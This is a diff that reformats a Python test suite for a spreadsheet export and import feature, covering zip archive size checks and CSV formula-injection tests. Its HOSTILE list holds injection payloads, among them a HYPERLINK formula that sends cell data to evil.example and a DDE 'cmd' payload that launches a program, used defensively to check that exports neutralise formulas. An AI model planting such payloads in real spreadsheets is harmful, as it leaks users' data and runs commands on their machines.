@@ -112,7 +112,7 @@ def declaring_size(data: bytes, member: str, size: int) -> bytes:
     for signature, size_offset, name_offset in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
         at = data.find(signature)
         while at != -1:
-            if data[at + name_offset:at + name_offset + len(name)] == name:
+            if data[at + name_offset : at + name_offset + len(name)] == name:
                 struct.pack_into("<I", data, at + size_offset, size)
             at = data.find(signature, at + 4)
     return bytes(data)
@@ -247,8 +247,10 @@ def test_a_member_that_lies_about_its_size_is_refused_after_inflating_what_it_de
 
 
 def test_the_largest_matrix_passes_the_archive_checks_and_reads():
-    table = export_table(role_headers=[f"R{j}" for j in range(60)],
-                         rows=[(f"Activity {i}", "build", "Why " * 10, ["A", *(["C"] * 59)]) for i in range(1_000)])
+    table = export_table(
+        role_headers=[f"R{j}" for j in range(60)],
+        rows=[(f"Activity {i}", "build", "Why " * 10, ["A", *(["C"] * 59)]) for i in range(1_000)],
+    )
     data = write_xlsx(table)
     assert tabular._archive_problem(data, LIMITS) is None
     back = parse_xlsx(data)
@@ -278,15 +280,25 @@ def test_an_xlsx_with_sixty_one_roles_is_refused():
 # ---------------------------------------------------------------- CSV injection
 
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)",
-           "\tTab first", "\rCR first", "-", "'=already quoted", "''@twice"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1)",
+    "\tTab first",
+    "\rCR first",
+    "-",
+    "'=already quoted",
+    "''@twice",
+]
 
 
 def hostile_table():
     return export_table(
         role_headers=["=PM", "+PMM", "-1", "@ops"],
-        rows=[(name, "launch", description, ["A", "R", "", "C"])
-              for name, description in zip(HOSTILE, reversed(HOSTILE))],
+        rows=[
+            (name, "launch", description, ["A", "R", "", "C"]) for name, description in zip(HOSTILE, reversed(HOSTILE))
+        ],
     )
 
 
@@ -326,7 +338,7 @@ def test_xlsx_export_has_no_formula_cells_for_hostile_text():
 
 
 def test_a_hand_written_apostrophe_is_removed_only_before_a_formula_character():
-    table = parse_csv("Activity,Description,'=PM\n'=Sum,'plain\n'-,''\n".encode())
+    table = parse_csv(b"Activity,Description,'=PM\n'=Sum,'plain\n'-,''\n")
     assert table.ok, table.errors
     assert [c.header for c in table.columns] == ["=PM"]
     assert [(a.name, a.description) for a in table.activities] == [("=Sum", "'plain"), ("-", "''")]
@@ -341,14 +353,19 @@ def test_escaping_is_undone_exactly(value):
 def stored_text(max_size: int):
     """Text as the app stores a name: whitespace runs folded to one space, trimmed, no NUL
     (which makes a file binary)."""
-    return (st.text(min_size=1, max_size=max_size)
-            .map(lambda t: " ".join(t.replace("\x00", "").split()))
-            .filter(lambda t: 0 < len(t) <= 200))
+    return (
+        st.text(min_size=1, max_size=max_size)
+        .map(lambda t: " ".join(t.replace("\x00", "").split()))
+        .filter(lambda t: 0 < len(t) <= 200)
+    )
 
 
 @settings(max_examples=100, deadline=None)
-@given(names=st.lists(stored_text(60), min_size=1, max_size=4, unique_by=str.casefold),
-       role=stored_text(20), prefix=st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''-", "-1+", "@SUM("]))
+@given(
+    names=st.lists(stored_text(60), min_size=1, max_size=4, unique_by=str.casefold),
+    role=stored_text(20),
+    prefix=st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''-", "-1+", "@SUM("]),
+)
 def test_any_names_come_back_from_csv_and_xlsx(names, role, prefix):
     names = [prefix + name for name in names]
     role = prefix + role
